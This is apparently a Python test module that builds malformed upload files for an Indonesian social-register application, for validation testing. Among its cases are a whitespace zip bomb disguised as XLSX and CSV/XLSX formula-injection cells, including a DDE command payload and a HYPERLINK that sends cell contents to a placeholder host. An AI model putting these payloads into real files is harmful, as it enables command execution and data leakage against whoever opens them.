"""A corpus of bad files, built in code: what people and machines really upload by mistake.

Lists (the DTSEN register extract, a proposal list): an empty file, headings without rows,
the wrong columns, binary junk, a zip bomb posing as XLSX, Windows-1252 text, Excel's
byte-order mark with `;` separators, NIKs that Excel turned into numbers, and cells that a
spreadsheet would run as formulas. Attachments (referral files, the signed hand-over record):
an empty file, a bare PDF or PNG header, a picture cut short, binary junk, text posing as a
PDF and the zip bomb. The 60 MB file is written to disk by the caller (`write_huge`), once.
"""

import datetime
import io
import random
from dataclasses import dataclass
from html import escape
from pathlib import Path

from openpyxl import Workbook

from tests.conftest import OKI_VILLAGE, make_nik, png_bytes
from tests.security.test_xlsx_limits import bomb_of_whitespace, workbook

MB = 1024 * 1024
HUGE_BYTES = 60 * MB
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

REGISTER_HEADER = [
    "id_dtsen", "nik", "no_kk", "nama", "tgl_lahir", "jenis_kelamin", "kode_wilayah", "alamat",
    "desil",
]  # fmt: skip
PROPOSAL_HEADER = [
    "nik", "no_kk", "nama", "tgl_lahir", "jenis_kelamin", "kode_wilayah", "alamat",
]  # fmt: skip
BORN = datetime.date(1990, 1, 10)
# Names that Windows-1252 and UTF-8 spell differently.
ACCENTED = ["José Núñez", "Añjani Siregar", "Chloé Ratna"]


@dataclass(frozen=True)
class BadFile:
    """A file to upload: its name, its bytes (or the path of a large one) and its type."""

    name: str
    content: bytes | Path
    content_type: str = "application/octet-stream"


# --- rows of a list ------------------------------------------------------------------------


def nik(serial: int) -> str:
    return make_nik(OKI_VILLAGE, BORN, "L", serial)


def kk(serial: int) -> str:
    return make_nik(OKI_VILLAGE, datetime.date(2020, 1, 1), "L", serial)


def person(serial: int, *, name=None, nik_cell=None, address=None) -> dict:
    """One person as a list gives them, by column name; the register's extra columns too."""
    return {
        "id_dtsen": f"DT{serial:06d}", "nik": nik(serial) if nik_cell is None else nik_cell,
        "no_kk": kk(serial), "nama": name or f"Warga {serial}", "tgl_lahir": f"{BORN:%d-%m-%Y}",
        "jenis_kelamin": "L", "kode_wilayah": OKI_VILLAGE,
        "alamat": address if address is not None else f"Jl. Lintas {serial}", "desil": "3",
    }  # fmt: skip


def csv_text(header: list[str], people: list[dict], *, sep: str = ",") -> str:
    def cell(value) -> str:
        text = str(value)
        if any(char in text for char in (sep, '"', "\n")):
            return '"' + text.replace('"', '""') + '"'
        return text

    lines = [sep.join(header)] + [sep.join(cell(p[c]) for c in header) for p in people]
    return "\r\n".join(lines) + "\r\n"


def csv_file(name: str, text: str, encoding: str = "utf-8") -> BadFile:
    return BadFile(name, text.encode(encoding), "text/csv")


def xlsx_file(name: str, header: list[str], people: list[dict], **cells) -> BadFile:
    """A workbook as openpyxl writes it; `cells` puts raw values (numbers, formulas) at
    "nik" or "nama" of the person with that serial: nik={1: 1.60205e15}."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for serial, one in enumerate(people, start=1):
        row = [one[column] for column in header]
        for column, values in cells.items():
            if serial in values:
                row[header.index(column)] = values[serial]
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return BadFile(name, buffer.getvalue(), XLSX)


# --- the corpus of lists ---------------------------------------------------------------------


def junk(size: int, seed: int = 2026) -> bytes:
    return random.Random(seed).randbytes(size)


def list_corpus(header: list[str], name: str) -> dict[str, BadFile]:
    """The files no list upload can use, by key (the 60 MB one is `write_huge`'s)."""
    wrong = ["nama lengkap", "alamat rumah", "no hp"]
    return {
        "empty": BadFile(f"{name}.csv", b"", "text/csv"),
        "header_only": csv_file(f"{name}.csv", ";".join(header) + "\r\n"),
        "wrong_columns": csv_file(
            f"{name}.csv",
            csv_text(wrong, [dict(zip(wrong, ["Budi", "Jl. Mawar", "0812"], strict=True))]),
        ),
        "binary_junk": BadFile(f"{name}.csv", junk(64 * 1024), "text/csv"),
        "zip_bomb_xlsx": BadFile(f"{name}.xlsx", bomb_of_whitespace(64, header=header), XLSX),
        "old_excel": BadFile(
            f"{name}.xls",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk(4096),
            "application/vnd.ms-excel",
        ),
        "broken_midway": csv_file(
            f"{name}.csv",
            csv_text(header, [person(1)], sep=";") + '"' + "a" * (200 * 1024) + "\r\n",
        ),
        "damaged_xlsx": BadFile(f"{name}.xlsx", xlsx_file("x", header, [person(1)]).content[:700]),
    }


def cp1252_list(header: list[str], name: str) -> BadFile:
    """A list saved by an older Excel on Windows: Windows-1252, comma separated."""
    people = [person(i, name=n) for i, n in enumerate(ACCENTED, start=1)]
    return csv_file(f"{name}.csv", csv_text(header, people), "cp1252")


def excel_indonesian_list(header: list[str], name: str) -> BadFile:
    """A list saved by Excel in an Indonesian locale as "CSV UTF-8": a byte-order mark and `;`
    between the cells (the decimal separator is the comma)."""
    people = [person(i, name=n, address=f"Jl. Sudirman No. {i}, RT 01") for i, n in
              enumerate(ACCENTED, start=1)]  # fmt: skip
    return csv_file(f"{name}.csv", "\ufeff" + csv_text(header, people, sep=";"))


def mangled_niks_xlsx(header: list[str], name: str) -> BadFile:
    """A workbook whose NIK column Excel took for numbers (rows 2 and 3: a floating-point
    number, and the 16 digits with the last one turned into 0, as Excel keeps them), then a
    NIK typed with a leading apostrophe and a NIK typed as text (rows 4 and 5)."""
    people = [person(1), person(2), person(3, nik_cell="'" + nik(3)), person(4)]
    as_float = float(nik(1))  # shown as 1.60205E+15
    as_number = int(nik(2)[:15] + "0")  # what Excel keeps of a 16-digit number
    return xlsx_file(f"{name}.xlsx", header, people, nik={1: as_float, 2: as_number})


def mangled_niks_csv(header: list[str], name: str) -> BadFile:
    """The same list saved as CSV: scientific notation with a decimal comma, the last digits
    lost to zeros (the serial then 0000), a leading apostrophe kept by a copy and paste."""
    people = [
        person(1, nik_cell="1,60205E+15"),
        person(2, nik_cell=nik(2)[:12] + "0000"),
        person(3, nik_cell="'" + nik(3)),
        person(4),
    ]
    return csv_file(f"{name}.csv", csv_text(header, people, sep=";"))


FORMULAS = {
    1: '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
    2: "=cmd|' /C calc'!A0",
    3: "+62 812 3456",
    4: "-2+3",
    5: "@SUM(1+1)",
}


def formulas_csv(header: list[str], name: str) -> BadFile:
    """Names and addresses that a spreadsheet would run if they were written back unchanged."""
    people = [person(i, name=text, address=text) for i, text in FORMULAS.items()]
    return csv_file(f"{name}.csv", csv_text(header, people, sep=";"))


def formulas_xlsx(header: list[str], name: str) -> BadFile:
    """A workbook with formula cells as Excel saves them, with their result (rows 2 and 4:
    a link shown as a name, a NIK put together), one as a program writes it, without a result
    (row 3), and a text cell that only looks like a formula (row 5)."""

    def text(value: str) -> bytes:
        return b'<c t="inlineStr"><is><t>' + escape(value).encode() + b"</t></is></c>"

    def formula(code: str, result: str | None) -> bytes:
        saved = b"" if result is None else b"<v>" + escape(result).encode() + b"</v>"
        kind = b"" if result is None else b' t="str"'
        return b"<c" + kind + b"><f>" + escape(code[1:]).encode() + b"</f>" + saved + b"</c>"

    special = {
        1: {"nama": formula(FORMULAS[1], "Budi Hartono")},
        2: {"nama": formula(FORMULAS[1], None)},
        3: {"nik": formula(f'=CONCATENATE("{nik(3)[:8]}","{nik(3)[8:]}")', nik(3))},
        4: {"alamat": text(FORMULAS[2])},
    }
    rows = [b"<row>" + b"".join(text(h) for h in header) + b"</row>"]
    for serial, cells in special.items():
        one = person(serial)
        rows.append(b"<row>" + b"".join(cells.get(c) or text(one[c]) for c in header) + b"</row>")
    return BadFile(f"{name}.xlsx", workbook(*rows), XLSX)


# --- attachments -----------------------------------------------------------------------------


def attachment_corpus(name: str) -> dict[str, BadFile]:
    """Files no attachment may be: each named like the picture or scan it pretends to be."""
    picture = png_bytes((64, 64))
    return {
        "empty": BadFile(f"{name}.pdf", b"", "application/pdf"),
        "header_only_pdf": BadFile(f"{name}.pdf", b"%PDF-1.7\n", "application/pdf"),
        "header_only_png": BadFile(f"{name}.png", b"\x89PNG\r\n\x1a\n", "image/png"),
        "truncated_png": BadFile(f"{name}.png", picture[: len(picture) // 2], "image/png"),
        "binary_junk": BadFile(f"{name}.jpg", junk(64 * 1024), "image/jpeg"),
        "csv_as_pdf": BadFile(
            f"{name}.pdf", csv_text(REGISTER_HEADER, [person(1)]).encode(), "application/pdf"
        ),
        "zip_bomb_xlsx": BadFile(f"{name}.xlsx", bomb_of_whitespace(64), XLSX),
    }


def write_huge(path: Path) -> Path:
    """60 MB of junk (a video, say, renamed): one megabyte of random bytes, repeated."""
    block = junk(MB, seed=60)
    with open(path, "wb") as out:
        for _ in range(HUGE_BYTES // MB):
            out.write(block)
    return path
